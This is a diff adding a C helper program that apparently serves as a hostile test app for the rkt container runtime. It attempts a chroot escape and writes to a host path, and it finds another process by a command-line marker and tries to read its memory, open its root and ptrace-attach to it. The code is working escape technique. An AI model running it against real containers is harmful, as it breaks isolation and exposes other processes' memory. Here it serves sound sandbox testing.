@@ -1,0 +1,88 @@
+/* Attacks on the pod boundary, run as an app by rkt/tests/hostile.rs.
+ * Statically linked, so it runs in any image.
+ *
+ *   attack chroot PATH     the classic chroot() escape, then mkdir PATH
+ *   attack ptrace MARKER   finds a process whose command line holds
+ *                          MARKER, then tries to attach to it and read
+ *                          its memory
+ *
+ * Prints one line per attempt: "<what>: ok" or "<what>: <error>". */
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ptrace.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+static void report(const char *what, int failed) {
+    printf("%s: %s\n", what, failed ? strerror(errno) : "ok");
+    fflush(stdout);
+}
+
+static int escape_chroot(const char *target) {
+    mkdir("/attack-chroot", 0755);
+    report("chroot", chroot("/attack-chroot") != 0);
+    for (int i = 0; i < 64; i++)
+        chdir("..");
+    report("chroot-out", chroot(".") != 0);
+    report("mkdir", mkdir(target, 0755) != 0);
+    return 0;
+}
+
+static int find(const char *marker) {
+    for (int tries = 0; tries < 200; tries++) {
+        DIR *d = opendir("/proc");
+        struct dirent *e;
+        while (d && (e = readdir(d))) {
+            int pid = atoi(e->d_name);
+            if (pid <= 0 || pid == getpid())
+                continue;
+            char path[64], cmd[4096];
+            snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
+            int fd = open(path, O_RDONLY);
+            if (fd < 0)
+                continue;
+            ssize_t n = read(fd, cmd, sizeof cmd - 1);
+            close(fd);
+            for (ssize_t i = 0; i < n; i++)
+                if (cmd[i] == 0)
+                    cmd[i] = ' ';
+            if (n > 0 && (cmd[n] = 0, strstr(cmd, marker)) && !strstr(cmd, "attack")) {
+                closedir(d);
+                return pid;
+            }
+        }
+        if (d)
+            closedir(d);
+        usleep(50000);
+    }
+    return 0;
+}
+
+static int trace(const char *marker) {
+    int pid = find(marker);
+    if (!pid) {
+        printf("find: no process\n");
+        return 1;
+    }
+    report("find", 0);
+    char path[64];
+    snprintf(path, sizeof path, "/proc/%d/mem", pid);
+    report("mem", open(path, O_RDONLY) < 0);
+    snprintf(path, sizeof path, "/proc/%d/root/", pid);
+    report("root", open(path, O_RDONLY | O_DIRECTORY) < 0);
+    report("attach", ptrace(PTRACE_ATTACH, pid, 0, 0) != 0);
+    return 0;
+}
+
+int main(int argc, char **argv) {
+    if (argc == 3 && !strcmp(argv[1], "chroot"))
+        return escape_chroot(argv[2]);
+    if (argc == 3 && !strcmp(argv[1], "ptrace"))
+        return trace(argv[2]);
+    fprintf(stderr, "usage: attack chroot PATH | attack ptrace MARKER\n");
+    return 2;
+}
